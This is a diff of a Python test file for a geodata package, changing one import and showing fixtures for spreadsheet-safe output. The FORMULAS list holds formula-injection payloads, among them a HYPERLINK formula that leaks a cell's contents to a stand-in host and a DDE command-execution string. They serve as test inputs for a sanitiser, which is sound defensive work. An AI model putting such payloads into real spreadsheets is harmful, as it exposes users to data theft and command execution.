@@ -30,7 +30,7 @@ from geo._io import check_output, from_spreadsheet_safe, spreadsheet_safe, write
 from geo._resources import bundled_dir
 from geo.cli import main
 from geo.errors import InputError, OutputError
-from geo.records import Seeds
+from geo.seeds import Seeds
 
 FORMULAS = ['=HYPERLINK("http://x?leak="&A1)', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]
 ARTICLE = "Ménaka, 8 March 2022.\n\nGunmen of the Islamic State killed 12 civilians in Ménaka on 8 March 2022.\n"
